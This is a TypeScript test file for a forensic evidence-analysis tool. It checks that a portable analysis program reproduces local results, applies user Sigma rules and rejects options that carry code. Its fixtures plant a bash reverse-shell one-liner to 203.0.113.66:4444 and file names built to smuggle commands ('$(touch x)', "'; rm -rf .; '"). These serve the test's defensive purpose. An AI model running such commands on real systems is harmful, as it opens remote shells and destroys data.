import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createReadStream, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import type { Artifact } from '@cordon/core';
import { plantTree } from '@cordon/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AnalysisOptions,
  analyze,
  defaultAnalyses,
  loadUserRules,
  resultLines,
  tarReader,
} from '../../src/index.js';
import { analysisOrder, analysisProgram, canTravel } from '../../src/program/index.js';

const INDICATORS = { addresses: ['203.0.113.66'], domains: ['evil.example'], ports: [4444] };
const RULE = `title: Robots of a shop
id: 3f1f0c1e-0d6c-4a5e-9d65-0b1d3f0e9c11
logsource: { category: webserver }
detection: { selection: { cs-method: POST }, condition: selection }
level: low
`;

let work = '';

/** Artifacts as the store would tell them, and their bytes beside the program. */
function evidence(): readonly Artifact[] {
  return ['0', '1'].map((name) => ({
    path: `disk/vol-${name}.tar.gz`,
    uri: `s3://evidence/inc/evidence/disk/vol-${name}.tar.gz`,
    sizeBytes: readFileSync(join(work, 'evidence', name)).length,
    sha256: '0'.repeat(64),
    mediaType: 'application/gzip',
    acquiredBy: 'forensic-host' as const,
    origin: `vol-${name}`,
    storedAt: '2026-11-20T04:30:00.000Z',
  }));
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'cordon-program-'));
  const [tree, odd] = [join(work, 'tree/fs'), join(work, 'odd/fs')];
  plantTree(tree);
  mkdirSync(join(odd, 'tmp'), { recursive: true });
  // Names that would be a path, a line, a command, a format or an escape if anybody took them for one.
  for (const name of ['a\nb', '$(touch x)', "'; rm -rf .; '", '%s%n', '\u001b[2Jx', '-rf', '"\\'])
    writeFileSync(join(odd, 'tmp', name), 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n');
  mkdirSync(join(work, 'evidence'));
  for (const [name, folder] of [tree, odd].entries())
    execFileSync('tar', ['-czf', join(work, 'evidence', String(name)), '-C', join(folder, '..'), 'fs']);
  writeFileSync(join(work, 'analysis-program.mjs'), (await analysisProgram()).text);
}, 600_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

async function here(options: AnalysisOptions): Promise<Buffer> {
  async function* results() {
    for (const [index, { path: artifact, storedAt: acquiredAt }] of evidence().entries()) {
      const reader = tarReader(createReadStream(join(work, 'evidence', String(index))));
      yield* analyze(reader, defaultAnalyses(options), { artifact, acquiredAt, indicators: INDICATORS });
    }
  }
  return buffer(resultLines(results()));
}

/** A Node.js of its own, in a folder where there is nothing else. */
function there(options: AnalysisOptions) {
  writeFileSync(join(work, 'order.json'), JSON.stringify(analysisOrder(evidence(), INDICATORS, options)));
  const told = execFileSync(process.execPath, ['analysis-program.mjs', work], {
    cwd: work,
    encoding: 'utf8',
  });
  return { told, lines: readFileSync(join(work, 'out/results.jsonl')) };
}

describe('the program for another host', { timeout: 600_000 }, () => {
  it('finds byte for byte what is found here', async () => {
    const [was, { told, lines }] = [await here({}), there({})];
    expect(lines.equals(was)).toBe(true);
    expect(lines.toString()).toContain('Web shell: /var/www/html/wp-content/uploads/2026/11/cache.php');
    expect(lines.toString()).toContain('disk/vol-1.tar.gz');
    const total = evidence().reduce((sum, { sizeBytes }) => sum + sizeBytes, 0);
    expect(told.trim().split('\n').at(-1)).toBe(`${total} ${total}`);
  });

  it('judges by rules of the user’s, and tells what is wrong with them, as here', async () => {
    writeFileSync(join(work, 'mine.yml'), RULE);
    writeFileSync(join(work, 'wrong.yml'), 'title: none\n');
    const options = await loadUserRules([join(work, 'mine.yml'), join(work, 'wrong.yml')]);
    const { lines } = there(options);
    expect(lines.equals(await here(options))).toBe(true);
    expect(lines.toString()).toContain('Robots of a shop');
    expect(lines.toString()).toContain('SIGMA_RULE_ERROR');
  });

  it('is known by the hash of its text', async () => {
    const { text, sha256 } = await analysisProgram();
    expect(sha256).toBe(createHash('sha256').update(text).digest('hex'));
  });

  it('takes no options that are code', async () => {
    expect(canTravel({})).toBe(true);
    expect(canTravel(await loadUserRules([join(work, 'mine.yml')]))).toBe(true);
    const { sigma, commands } = await loadUserRules([join(work, 'mine.yml')]);
    expect(canTravel({ sigma })).toBe(false);
    expect(canTravel({ commands })).toBe(false);
    const detector = { id: 'x', interested: () => true, inspect: () => [] };
    expect(canTravel({ detectors: [detector] })).toBe(false);
    const analysis = { id: 'acme.x', begin: () => ({ visit: () => undefined }) };
    expect(canTravel({ analyses: [analysis] })).toBe(false);
  });
});
